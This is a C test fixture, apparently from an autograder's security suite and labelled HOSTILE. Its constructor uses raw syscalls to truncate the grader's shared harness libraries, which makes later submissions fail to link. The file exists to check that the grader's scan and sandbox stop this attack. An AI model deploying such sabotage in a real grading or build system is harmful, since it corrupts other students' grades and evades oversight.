// HOSTILE (tampering with the build's harness libraries): a constructor
// replaces libfusionlab_testlib.a and libfusionlab_common.a, which the
// grader builds once per batch next to the test program (/proc/self/exe), with
// empty archives: every submission graded after this one fails to link
// (a classmate's grade changes). Raw `syscall` instructions only.
// Must stop it: the object scan (a constructor, raw system calls) and the
// sandbox (the scratch build is read-only to the test program).
#include "vector_add.h"

#pragma hostile raw_syscalls

__attribute__((constructor)) static void break_the_harness(void)
{
    char path[4096];
    long n = hs_sys(HS_READLINKAT, HS_AT_FDCWD, (long)"/proc/self/exe", (long)path, 3000, 0, 0);
    if (n <= 0) return;
    while (n > 0 && path[n - 1] != '/') --n;
    static const char *const libs[] = {"libfusionlab_testlib.a", "libfusionlab_common.a"};
    for (int i = 0; i < 2; ++i) {
        long k = n;
        for (const char *s = libs[i]; *s; ++s) path[k++] = *s;
        path[k] = '\0';
        long fd = hs_open(path, O_WRONLY | O_TRUNC, 0);
        if (fd < 0) continue;
        hs_write(fd, "!<arch>\n", 8); /* a valid, empty archive */
        hs_close(fd);
    }
}

#pragma hostile skeleton
